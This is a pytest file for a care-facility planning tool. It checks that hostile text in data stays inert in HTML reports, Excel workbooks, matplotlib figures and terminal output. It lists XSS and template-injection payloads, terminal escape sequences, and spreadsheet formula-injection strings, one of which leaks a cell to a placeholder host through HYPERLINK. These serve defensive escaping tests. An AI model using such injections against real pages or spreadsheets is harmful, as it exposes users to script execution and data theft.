"""Hostile text from data and profiles in every output: nothing runs, nothing breaks.

A report is opened by people who did not make its input.  Ids, names, candidate
ids, area ids and profile labels below try to run script in report.html (in a real
headless Chromium), formulas in the workbooks (read back with openpyxl), mathtext
and giant labels in matplotlib, and escape sequences in the terminal.
"""

from __future__ import annotations

import dataclasses
import re
import time

import numpy as np
import openpyxl
import pandas as pd
import pytest
from _chromium import Browser, chromium_path
from test_report import _plan

import careplan.report as report
from careplan.report import escape
from careplan.report.labels import t

# Each stands for a kind: template-literal breakout, backslash escapes that break
# a JS string, closing the script element, HTML event handlers, Jinja syntax,
# JS line terminators, quotes, CSS breakout, a terminal escape sequence.
HOSTILE = [
    "`+(document.title+='X')+`",
    "F\\1",
    "C:\\x1",
    "</script><script>document.title+='S'</script>",
    "<img src=x onerror=\"document.title+='I'\">",
    "${document.title+='T'}",
    "{{ 7*7 }}{% raw %}",
    "\u2028line\u2029sep",
    "'\";document.title+='Q';//",
    "</style><style>body{display:none}</style>",
    "\x1b]0;pwned\x07\x1b[31mred",
]
FORMULAS = ['=HYPERLINK("http://x/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def hostile_plan():
    """The small report plan with hostile text in every field that reaches a reader."""
    plan = _plan()
    h = HOSTILE
    a = plan.areas.copy()
    ids = [h[0], h[1], h[3], h[5]]
    a["area_id"] = ids
    a.index = pd.Index(ids)
    a["name"] = [h[4], h[2], None, h[9]]
    a["served_by"] = [None, h[6], h[7], h[8]]
    ex = plan.existing.copy()
    ex["facility_id"] = [h[0], h[1]]
    ex["name"] = [h[3], h[4]]
    ex["level"] = ["community", h[5]]  # an unknown level from data is shown as given
    pr = plan.proposed.copy()
    pr["station_id"] = [h[0], "X-" + h[0]]
    pr["candidate_id"] = [h[2], h[6]]
    pr["areas_served"] = [f"{h[0]},{h[1]}", h[8]]
    pr["kind"] = ["new", "expansion"]
    pr["facility_id"] = [None, h[1]]
    sa = plan.service_areas.copy()
    sa["facility_id"] = [h[0], h[1], h[2], h[4]]

    def rules(df):
        df = df.copy()
        df["label_zh"] = [h[0], h[3]]
        df["label_en"] = [h[4], FORMULAS[0]]
        df["citation"] = [h[1], h[5]]
        df["unit"] = [h[6], FORMULAS[3]]
        df["note"] = [h[8], h[9]]
        return df

    summary = plan.summary.copy()
    summary["label_zh"] = h[:len(summary)]
    summary["label_en"] = h[:len(summary)]
    params = dict(plan.parameters, standard=h[0], standard_title=h[3], candidates=FORMULAS[0])
    return dataclasses.replace(
        plan, areas=a, existing=ex, proposed=pr, service_areas=sa, summary=summary,
        rules_before=rules(plan.rules_before), rules_after=rules(plan.rules_after),
        parameters=params, attribution=h[4] + " " + h[0])


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory):
    d = tmp_path_factory.mktemp("hostile") / "out"
    report.write_all(hostile_plan(), d, lang="zh", verbose=False)
    return d


# -- the encoders themselves ----------------------------------------------------------
@pytest.mark.parametrize("s", HOSTILE + FORMULAS)
def test_html_text_is_inert(s):
    import html

    out = escape.html_text(s)
    assert not re.search(r"[<>\"'`\\${}]", out)
    # what a browser shows is the original (controls made visible)
    assert html.unescape(out) == escape.terminal_text(s)


@pytest.mark.parametrize("s", HOSTILE)
def test_js_string_round_trips_through_json(s):
    import json

    lit = escape.js_string(s)
    assert lit[0] == lit[-1] == '"'
    assert "<" not in lit and "`" not in lit and "\u2028" not in lit
    assert json.loads(lit) == s


def test_css_string_escapes_everything_but_plain_characters():
    assert escape.css_string("a</style>{x}") == '"a\\3c \\2f style\\3e \\7b x\\7d "'


def test_terminal_text_shows_controls():
    assert escape.terminal_text("\x1b[31mred\x07") == "\\x1b[31mred\\x07"
    assert escape.terminal_text("\u202eevil") == "\\u202eevil"
    assert escape.terminal_text("普通 id") == "普通 id"


# -- report.html in a real browser ------------------------------------------------------
_MAP_STATE = """(() => {
  const w = frames[0];
  const keys = Object.keys(w).filter(k => k.startsWith('map_'));
  if (!keys.length || typeof w.L === 'undefined') return {ok: false};
  const m = w[keys[0]];
  let layers = 0, markers = 0, geojson = 0, opened = 0;
  m.eachLayer(l => {
    layers++;
    if (l instanceof w.L.CircleMarker) markers++;
    if (l instanceof w.L.GeoJSON) geojson++;
  });
  // render every tooltip and popup (their HTML is built when opened)
  m.eachLayer(l => {
    try {
      const ll = l.getLatLng ? l.getLatLng() : (l.getBounds ? l.getBounds().getCenter() : null);
      if (l.getTooltip && l.getTooltip()) { l.openTooltip(ll); opened++; l.closeTooltip(); }
      if (l.getPopup && l.getPopup()) { l.openPopup(ll); opened++; l.closePopup(); }
    } catch (e) {}
  });
  const toggles = w.document.querySelectorAll('.leaflet-control-layers-selector').length;
  return {ok: true, layers, markers, geojson, opened, toggles, title: w.document.title,
          text: w.document.body.innerText,
          legend: w.document.getElementById('careplan-legend').innerText};
})()"""


@pytest.mark.skipif(chromium_path() is None, reason="chromium not installed")
def test_hostile_report_runs_nothing_and_the_map_renders(hostile_out):
    with Browser() as b:
        b.open(hostile_out / "report.html", settle_s=1.0)
        state = b.eval(_MAP_STATE)
        time.sleep(0.3)
        b.pump(0.5)
        title = b.eval("document.title")
        page_text = b.eval("document.body.innerText")
        styles_ok = b.eval("getComputedStyle(document.body).display")
        assert b.dialogs() == []
        assert b.errors() == []
    assert title == t("title", "zh")  # nothing appended X, S, I, T or Q
    assert state["ok"], "Leaflet map did not load"
    assert state["title"] == ""  # the map page's own title untouched too
    # 2 existing + 2 proposed markers; shown: network, proposed service areas, areas
    # after (the other two GeoJSON layers start hidden); 7 layers in the layer control
    assert state["markers"] >= 4 and state["geojson"] >= 3 and state["toggles"] == 7
    assert state["opened"] >= 8  # every tooltip and popup rendered without error
    assert styles_ok == "block"  # the CSS breakout did not hide the page
    # hostile text is shown literally, not dropped
    for s in (HOSTILE[0], HOSTILE[1], HOSTILE[3], HOSTILE[4], HOSTILE[5]):
        assert s in page_text
    assert HOSTILE[4] in state["legend"] and HOSTILE[0] in state["text"] + state["legend"]


def test_hostile_report_source_has_no_live_markup(hostile_out):
    page = (hostile_out / "report.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page and "<script>document.title" not in page
    assert "`+(document.title" not in page and "${document.title" not in page


# -- workbooks ----------------------------------------------------------------------------
def _cells(path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c


def _assert_no_formula(path):
    n_text = 0
    for sheet, c in _cells(path):
        assert c.data_type != "f", (sheet, c.coordinate, c.value)
        if isinstance(c.value, str):
            n_text += 1
            assert c.data_type == "s"
            assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), (sheet, c.value)
    assert n_text > 0


def test_tables_xlsx_has_no_formula_and_numbers_stay_numbers(tmp_path):
    plan = hostile_plan()
    ex = plan.existing.copy()
    ex["name"] = FORMULAS[:2]
    a = plan.areas.copy()
    a["name"] = FORMULAS[2:]
    plan = dataclasses.replace(plan, existing=ex, areas=a)
    path = report.write_excel(plan, tmp_path / "t.xlsx")
    _assert_no_formula(path)
    wb = openpyxl.load_workbook(path)
    ws = wb["existing"]
    head = [c.value for c in ws[1]]
    names = [ws.cell(row=r, column=head.index("name") + 1).value for r in (2, 3)]
    assert names == ["'" + FORMULAS[0], "'" + FORMULAS[1]]  # shown, never evaluated
    fa = [ws.cell(row=r, column=head.index("floor_area_m2") + 1) for r in (2, 3)]
    assert [c.value for c in fa] == [100.0, 90.0] and all(c.data_type == "n" for c in fa)
    areas = wb["areas"]
    head = [c.value for c in areas[1]]
    hh = areas.cell(row=2, column=head.index("households") + 1)
    assert hh.value == 400 and hh.data_type == "n"
    # the share in the summary is a number shown as a percentage
    summ = wb["summary"]
    head = [c.value for c in summ[1]]
    row = next(r for r in range(2, summ.max_row + 1)
               if summ.cell(row=r, column=1).value == "covered_share")
    cell = summ.cell(row=row, column=head.index("before") + 1)
    assert cell.data_type == "n" and cell.number_format == "0.0%"
    assert cell.value == pytest.approx(1000 / 1400)


def test_check_out_workbook_from_a_hostile_profile(tmp_path, capsys):
    """`careplan check --out` with a user profile whose labels are formulas."""
    from pathlib import Path

    import careplan as cp
    from careplan.cli import main

    prof = Path(cp.standards.profile_path("jinwan-2020")).read_text(encoding="utf-8")
    prof = prof.replace('label_en = "New estates: community care floor area per 100 households"',
                        "label_en = '" + FORMULAS[0] + "'", 1)
    prof = prof.replace('name = "jinwan-2020"', 'name = "hostile"', 1)
    std = tmp_path / "hostile.toml"
    std.write_text(prof, encoding="utf-8")
    root = Path(__file__).resolve().parents[1]
    gpkg = root / "src" / "careplan" / "datasets" / "sample.gpkg"
    out = tmp_path / "check.xlsx"
    assert main(["check", "--areas", str(gpkg), "--areas-layer", "areas", "--facilities",
                 str(gpkg), "--facilities-layer", "facilities", "--standard", str(std),
                 "--out", str(out)]) == 0
    assert out.exists() and not list(tmp_path.glob(".check.xlsx*"))
    _assert_no_formula(out)
    labels = [c.value for s, c in _cells(out) if s == "rules"]
    assert "'" + FORMULAS[0] in labels


@pytest.mark.parametrize("s", FORMULAS)
def test_spreadsheet_text_neutralises_formula_starts(s):
    out = escape.spreadsheet_text(s)
    assert out.startswith("'") and escape.spreadsheet_text("12 m²") == "12 m²"


def test_ids_differing_by_a_control_character_stay_distinct(tmp_path):
    df = pd.DataFrame({"id": ["A\x01", "A\x02", "A\x00B"], "v": [1, 2, 3]})
    path = report.write_workbook({"t": df}, tmp_path / "w.xlsx")
    vals = [c.value for s, c in _cells(path) if c.column == 1 and c.row > 1]
    assert vals == ["A\\x01", "A\\x02", "A\\x00B"]


# -- matplotlib -----------------------------------------------------------------------------
def test_mathtext_and_huge_ids_in_figures(tmp_path):
    plan = _plan()
    a = plan.areas.copy()
    long_id = "L" * 100_000
    ids = ["$x^$", long_id, r"$\frac{1}{0}$", "a4"]
    a["area_id"] = ids
    a.index = pd.Index(ids)
    a["name"] = None
    pr = plan.proposed.copy()
    pr["station_id"] = ["$x^$", "S" * 100_000]
    plan = dataclasses.replace(plan, areas=a, proposed=pr)
    t0 = time.perf_counter()
    charts = report.figures.charts(plan, "en")
    pngs = report.write_png_maps(plan, tmp_path, lang="en", dpi=60)
    assert time.perf_counter() - t0 < 30
    import base64
    import io

    import matplotlib.image as mpimg

    for _, b64 in charts:
        img = mpimg.imread(io.BytesIO(base64.b64decode(b64)), format="png")
        assert img.shape[1] < 2000 and img.shape[0] < 3000  # no 800,000 px wide figure
    for p in pngs:
        assert mpimg.imread(p).shape[1] < 2000
    # the tables keep the full value
    xl = report.write_excel(plan, tmp_path / "t.xlsx")
    vals = {c.value for s, c in _cells(xl) if s == "areas"}
    assert "$x^$" in vals and any(isinstance(v, str) and len(v) >= 32_000 for v in vals)


def test_figure_text_cuts_long_labels():
    assert escape.figure_text("x" * 100) == "x" * 39 + "…"
    assert escape.figure_text("$x^$") == "$x^$"


# -- terminal ---------------------------------------------------------------------------------
def test_cli_prints_no_escape_sequence(capsys):
    from careplan.report.console import print_plan

    plan = hostile_plan()
    print_plan(plan, "out\x1b[2J", {"report": "r\x1b]0;x\x07.html"})
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u2028" not in out
    assert "\\x1b" in out  # shown, visibly


def test_cli_error_line_is_terminal_safe(capsys):
    from careplan.cli import _fail

    assert _fail("bad id 'A\x1b[31m'\nsecond line") == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and err.count("\n") == 1


def test_numbers_in_tables_unchanged_by_escaping():
    assert np.isclose(float(report.format.fmt(1.23456)), 1.23)
